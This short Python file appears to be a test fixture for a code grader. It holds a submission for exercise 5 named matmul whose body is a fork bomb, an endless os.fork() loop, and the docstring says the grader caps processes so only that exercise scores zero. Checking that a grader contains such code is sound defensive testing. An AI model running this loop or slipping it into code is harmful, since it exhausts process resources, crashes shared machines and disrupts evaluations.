"""A fork bomb.

It reaches the limit on processes; the exercise gets nothing, the others keep their points.
"""

AIM = "grader"
STOCK = "it would eat the machine up"
ANSWERS = {
    "ex5": """
import os


def matmul(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
}
